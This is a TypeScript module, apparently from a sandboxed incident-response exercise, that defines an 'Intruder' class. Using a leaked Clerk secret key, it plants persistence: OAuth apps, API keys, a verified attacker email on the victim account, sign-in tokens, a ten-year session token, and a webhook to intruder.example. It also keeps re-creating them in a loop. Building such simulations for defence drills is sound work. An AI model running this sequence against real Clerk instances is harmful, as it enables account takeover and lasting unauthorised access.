import { setTimeout as delay } from "node:timers/promises";
import type { Scene } from "../stage/scene.ts";
import type { Control } from "../world/control.ts";
import type { Sandbox } from "../world/sandbox.ts";
import type { Wire } from "../world/wire.ts";
import { Browser } from "./browser.ts";

const api = "https://api.clerk.com/v1";
const tenYearsS = 315_360_000;
const planted = "Nightshift Sync";
const workEveryMs = 750;

/** What the intruder has left behind, by what it takes to use it. */
export interface Planted {
  readonly oauthApplication: string;
  readonly endpoint: string;
  readonly apiKey: { readonly id: string; readonly secret: string };
  readonly machine: string;
  readonly redirectUrl: string;
  /** On the victim's account. */
  readonly email: { readonly id: string; readonly address: string };
  /** Signs in as the victim, once; no API lists it. */
  readonly ticket: string;
  /** Another such token gave them this session at once. */
  readonly session: string;
  /** A session token of the victim's that is good for ten years. */
  readonly token: string;
}

/** What the key has done for them so far. */
interface Use {
  /** Unix milliseconds of the last answer that was not a refusal; undefined before the first. */
  readonly lastAt: number | undefined;
  /** Requests that were refused for the key, after the last one that was not. */
  readonly refused: number;
}

/**
 * Somebody else who has the instance's secret key: they plant what outlives it, and go on working while the team does.
 * They speak Clerk's own API with that key, and nothing that only the sandbox knows.
 */
export class Intruder {
  readonly #address: Sandbox["address"];
  readonly #wire: Wire;
  readonly #key: string;
  readonly #control: Control;
  readonly #victim: { readonly userId: string; readonly sessionId: string };
  #use: Use = { lastAt: undefined, refused: 0 };
  #working: Promise<void> | undefined;
  #stop = new AbortController();

  /** @param key the secret key that is out */
  constructor(
    { sandbox }: Pick<Scene, "sandbox">,
    key: string,
    victim: { readonly userId: string; readonly sessionId: string },
  ) {
    this.#wire = sandbox.wire.as("198.51.100.66");
    this.#key = key;
    this.#control = sandbox.control;
    this.#victim = victim;
    this.#address = sandbox.address;
  }

  get use(): Use {
    return this.#use;
  }

  /** Everything that a key can leave behind. @throws Error where Clerk refuses any of it */
  async plant(): Promise<Planted> {
    const { userId: user_id, sessionId } = this.#victim;
    const made = async (path: string, body: object) => await this.#need("POST", path, body);
    const back = "https://intruder.example/back";
    const oauth = await made("/oauth_applications", { name: planted, redirect_uris: [back] });
    const apiKey = await made("/api_keys", { name: planted, subject: user_id });
    const machine = await made("/machines", { name: planted });
    const url = await made("/redirect_urls", { url: back });
    const address = "intruder@elsewhere.example";
    const email = await made("/email_addresses", { user_id, email_address: address, verified: true });
    const ticket = await made("/sign_in_tokens", { user_id });
    const used = await made("/sign_in_tokens", { user_id });
    const session = await this.redeem(String(used["token"]));
    if (session === undefined) throw new Error("Clerk refused the intruder's sign-in token.");
    const token = await made(`/sessions/${sessionId}/tokens`, { expires_in_seconds: tenYearsS });
    const { svix_url: portal } = await made("/webhooks/svix_url", {});
    const endpoint = await this.#control.call("POST", "/clerk/webhooks", {
      url: "https://intruder.example/events",
      portal: new URL(String(portal)).hash.replace("#key=", ""),
    });
    return {
      oauthApplication: String(oauth["id"]),
      endpoint: String(endpoint.id),
      apiKey: { id: String(apiKey["id"]), secret: String(apiKey["secret"]) },
      machine: String(machine["id"]),
      redirectUrl: String(url["id"]),
      email: { id: String(email["id"]), address },
      ticket: String(ticket["token"]),
      session,
      token: String(token["jwt"]),
    };
  }

  /** Goes on until `stop`: signs in as the victim again, and makes anew what was taken away. */
  work(): void {
    this.#working ??= this.#goOn();
  }

  async stop(): Promise<void> {
    this.#stop.abort();
    await this.#working;
  }

  /** Signs in with the ticket at a browser of its own, as the SDK would. @returns the session's id; undefined where it is refused */
  async redeem(ticket: string): Promise<string | undefined> {
    return await new Browser(this.#wire, this.#address).signInByTicket(ticket).catch(() => undefined);
  }

  async #goOn(): Promise<void> {
    while (!this.#stop.signal.aborted) {
      const list = await this.#ask("GET", "/oauth_applications?limit=100").catch(() => undefined);
      const there = list?.body["data"] as readonly { readonly name: string }[] | undefined;
      if (list?.status === 200 && there?.every(({ name }) => name !== planted) === true)
        await this.#ask("POST", "/oauth_applications", { name: planted }).catch(() => undefined);
      await this.#ask("POST", "/sign_in_tokens", { user_id: this.#victim.userId }).catch(() => undefined);
      await delay(workEveryMs, undefined, { signal: this.#stop.signal }).catch(() => undefined);
    }
  }

  async #need(method: string, path: string, body: object): Promise<Readonly<Record<string, unknown>>> {
    const answer = await this.#ask(method, path, body);
    if (answer.status >= 300) throw new Error(`Clerk answered ${answer.status} to the intruder's ${path}.`);
    return answer.body;
  }

  async #ask(method: string, path: string, body?: object) {
    const answer = await this.#wire.send({
      method,
      url: `${api}${path}`,
      headers: { authorization: `Bearer ${this.#key}`, "content-type": "application/json" },
      ...(body !== undefined && { body: JSON.stringify(body) }),
    });
    this.#use =
      answer.status === 401
        ? { ...this.#use, refused: this.#use.refused + 1 }
        : { lastAt: Date.now(), refused: 0 };
    return { status: answer.status, body: JSON.parse(answer.body || "{}") as Record<string, unknown> };
  }
}
